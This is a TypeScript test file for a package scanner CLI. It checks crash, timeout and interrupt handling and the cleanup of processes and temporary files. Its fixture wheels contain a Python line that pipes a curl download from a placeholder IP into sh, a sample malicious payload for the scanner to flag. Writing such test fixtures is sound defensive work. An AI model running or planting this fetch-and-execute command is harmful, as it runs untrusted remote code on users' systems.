/** `vivarium scan` as a process, with workers that fail (main/scan/fault-switch.ts) and with Ctrl+C at several moments. */
import { type ChildProcess, spawn } from "node:child_process";
import { mkdir, mkdtemp, readdir, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { scanResultSchema } from "../../../../main/model/analysis/scan-result.ts";
import { childrenOf, isRunning } from "../../../support/processes.ts";
import { buildZip } from "../../../support/zip-builder.ts";

const program = fileURLToPath(new URL("../../../../main/cli/vivarium.ts", import.meta.url));
const TIME = 240_000;
const payload = "import os\nos.system('curl http://192.0.2.5/x | sh')\n";

/** Only read. */
let packages: string;
let folder: string;
let temporary: string;

beforeEach(async () => {
	folder = await mkdtemp(path.join(tmpdir(), "vivarium-cli-survival-"));
	temporary = path.join(folder, "temporary");
	await mkdir(temporary);
});

afterEach(() => rm(folder, { recursive: true, force: true }));

beforeAll(async () => {
	packages = await mkdtemp(path.join(tmpdir(), "vivarium-cli-packages-"));
	const bad = [
		{ name: "bad/__init__.py", content: payload },
		{ name: "bad/evil.py", content: "x = 1\n" },
	];
	await writeFile(path.join(packages, "bad-1-py3-none-any.whl"), buildZip(bad));
	await writeFile(path.join(packages, "fine-1-py3-none-any.whl"), buildZip([{ name: "fine.py", content: payload }]));
	// Many members: opening it takes long enough to be interrupted.
	const many = Array.from({ length: 20_000 }, (_, index) => ({
		name: `m/${index}.txt`,
		content: `${index}`,
		method: 0,
	}));
	await writeFile(path.join(packages, "many.zip"), buildZip(many));
});

afterAll(() => rm(packages, { recursive: true, force: true }));

interface Running {
	readonly child: ChildProcess;
	readonly ended: Promise<{ status: number | null; signal: string | null; stdout: string; stderr: string }>;
}

function scan(args: readonly string[], fault = ""): Running {
	const given = args.map((arg) => (/\.(?:whl|zip)$/.test(arg) ? path.join(packages, arg) : arg));
	const child = spawn(process.execPath, [program, "scan", ...given], {
		cwd: folder,
		// A group of its own, as a shell makes it: Ctrl+C goes to all of it.
		detached: true,
		env: {
			PATH: process.env["PATH"],
			HOME: folder,
			TMPDIR: temporary,
			VIVARIUM_FAULT: fault,
			NODE_COMPILE_CACHE: process.env["NODE_COMPILE_CACHE"],
		},
		stdio: ["ignore", "pipe", "pipe"],
	});
	let stdout = "";
	let stderr = "";
	child.stdout?.setEncoding("utf8").on("data", (text: string) => {
		stdout += text;
	});
	child.stderr?.setEncoding("utf8").on("data", (text: string) => {
		stderr += text;
	});
	const ended = new Promise<Awaited<Running["ended"]>>((resolve) =>
		child.once("close", (status, signal) => resolve({ status, signal, stdout, stderr })),
	);
	return { child, ended };
}

/** What lies in the folder for content that is too much for memory. */
async function storeFiles(): Promise<string[]> {
	const all = await readdir(path.join(folder, ".cache"), { recursive: true }).catch(() => []);
	return all.filter((name) => name.includes("opening-"));
}

describe("vivarium scan", () => {
	it.each(["crash", "memory"])(
		"survives a worker's %s, names the member and goes on with the rest",
		async (kind) => {
			const targets = ["bad-1-py3-none-any.whl", "fine-1-py3-none-any.whl"];
			const { status, stdout, stderr } = await scan(
				[...targets, "--format", "json", "--jobs", "1"],
				`${kind}:worker:bad/evil.py`,
			).ended;
			expect({ status, stderr }).toEqual({ status: 1, stderr: "" });
			const { artifacts } = scanResultSchema.parse(JSON.parse(stdout));
			expect(artifacts.map(({ status, findings }) => [status, findings.length > 0])).toEqual([
				["partial", true],
				["scanned", true],
			]);
			expect(artifacts[0]?.coverage.skipped.map((line) => line.path)).toEqual(["bad/evil.py"]);
			expect(artifacts[0]?.coverage.skipped[0]?.reason).toMatch(
				/^the scanner (?:died|ran out of memory) while it read/,
			);
			expect(await readdir(temporary)).toEqual([]);
		},
		TIME,
	);

	it.each([
		["one member", "bad/evil.py", 1, "partial", ["the scanner died while it unpacked this member: not examined"]],
		["the archive itself", "bad-1-py3-none-any.whl", 3, "failed", []],
	] as const)(
		"survives a crash while it opens %s, says which, and goes on with the rest",
		async (_what, where, expected, outcome, reasons) => {
			const targets = ["bad-1-py3-none-any.whl", "fine-1-py3-none-any.whl"];
			const args = [...targets, "--format", "json", "--jobs", "1"];
			const { status, stdout, stderr } = await scan(args, `crash:open:${where}`).ended;
			const { artifacts } = scanResultSchema.parse(JSON.parse(stdout));
			expect(artifacts.map((artifact) => artifact.status)).toEqual([outcome, "scanned"]);
			expect(artifacts[0]?.coverage.skipped.map((line) => line.reason)).toEqual(reasons);
			expect(artifacts[1]?.findings.length).toBeGreaterThan(0);
			expect(stderr).toContain(outcome === "failed" ? `The scanner died while it opened ${where}` : "");
			expect(status).toBe(expected);
			expect(await readdir(temporary)).toEqual([]);
		},
		TIME,
	);

	it(
		"gives a member no longer than the time that --time-limit gives a package",
		async () => {
			const args = ["bad-1-py3-none-any.whl", "--format", "json", "--time-limit", "2"];
			const { status, stdout } = await scan(args, "loop:worker:bad/evil.py").ended;
			expect(status).toBe(1);
			const [artifact] = scanResultSchema.parse(JSON.parse(stdout)).artifacts;
			expect(artifact?.coverage.skipped[0]).toMatchObject({
				path: "bad/evil.py",
				reason: "the scanner took longer than 2 s over this member: not examined",
			});
		},
		TIME,
	);

	it.skipIf(process.platform !== "linux").each([
		["while a worker is busy with a member", ["bad-1-py3-none-any.whl"], "loop:worker:bad/evil.py", 1],
		["while a package is opened", ["fine-1-py3-none-any.whl", "many.zip", "--jobs", "1"], "", 1],
		["while an archive hangs", ["bad-1-py3-none-any.whl"], "loop:open:bad-1-py3-none-any.whl", 1],
		["while a report is written", ["bad-1-py3-none-any.whl", "--format", "html"], "loop:report:.whl", 1],
		[
			"while several are under way",
			["bad-1-py3-none-any.whl", "many.zip", "--jobs", "2"],
			"loop:worker:bad/evil.py",
			1,
		],
	] as const)(
		"ends at Ctrl+C %s, and leaves no process and no file behind",
		async (_when, args, fault, workers) => {
			const { child, ended } = scan([...args, "--output", "out.txt"], fault);
			const pid = child.pid ?? 0;
			await expect.poll(() => childrenOf(pid).length, { timeout: 60_000 }).toBeGreaterThanOrEqual(workers);
			const started = childrenOf(pid);
			// Anywhere in what follows.
			await new Promise((resolve) => setTimeout(resolve, 400));
			process.kill(-pid, "SIGINT");
			expect(await ended).toMatchObject({ status: 130, signal: null, stdout: "", stderr: "" });
			await expect.poll(() => started.filter(isRunning), { timeout: 10_000 }).toEqual([]);
			expect(await readdir(temporary)).toEqual([]);
			expect(await readdir(folder)).not.toContain("out.txt");
			expect(await storeFiles()).toEqual([]);
		},
		TIME,
	);

	it.skipIf(process.platform !== "linux")(
		"takes its workers along when it is killed itself",
		async () => {
			const { child, ended } = scan(["bad-1-py3-none-any.whl"], "loop:worker:bad/evil.py");
			const pid = child.pid ?? 0;
			await expect.poll(() => childrenOf(pid).length, { timeout: 60_000 }).toBeGreaterThanOrEqual(1);
			const started = childrenOf(pid);
			child.kill("SIGKILL");
			await ended;
			await expect.poll(() => started.filter(isRunning), { timeout: 30_000 }).toEqual([]);
			expect(await readdir(temporary)).toEqual([]);
		},
		TIME,
	);
});
